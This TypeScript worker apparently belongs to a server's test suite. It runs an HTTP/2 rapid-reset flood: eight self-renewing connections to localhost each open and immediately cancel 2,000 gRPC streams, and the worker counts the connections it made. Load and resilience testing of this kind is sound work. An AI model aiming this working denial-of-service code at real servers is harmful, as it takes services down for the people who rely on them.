import { connect } from "node:net";
import { parentPort, workerData } from "node:worker_threads";
import {
  callHeaders,
  FLAG,
  FRAME,
  frame,
  number32,
  PREFACE,
  SETTINGS,
} from "../../../support/http2-frames.ts";

/**
 * Rapid reset from one address, as a thread of its own so that it takes no time from those that it attacks: opens calls and takes
 * them back at once, and connects anew, eight at a time, whenever it is cut off. Posts how many connections it made; ends with the first message.
 */
const { port, from } = workerData as { readonly port: number; readonly from: string };

const headers = callHeaders("/longshore.v1.TaskService/GetTask");
const cancel = number32(8);
const CALLS = 2_000;
const flood = Buffer.concat([
  PREFACE,
  SETTINGS,
  ...Array.from({ length: CALLS }, (_, index) => {
    const stream = index * 2 + 1;
    return Buffer.concat([
      frame(FRAME.headers, FLAG.endHeaders, stream, headers),
      frame(FRAME.reset, FLAG.none, stream, cancel),
    ]);
  }),
]);

let connections = 0;
let isOver = false;

function attack(): void {
  if (isOver) return;
  const socket = connect({ port, host: "127.0.0.1", localAddress: from }, () => {
    connections += 1;
    socket.write(flood);
  });
  socket.on("error", () => undefined);
  socket.on("data", () => undefined);
  socket.on("close", () => setImmediate(attack));
}

for (let index = 0; index < 8; index += 1) attack();
parentPort?.once("message", () => {
  isOver = true;
  parentPort?.postMessage(connections);
  process.exit(0);
});
parentPort?.postMessage("ready");
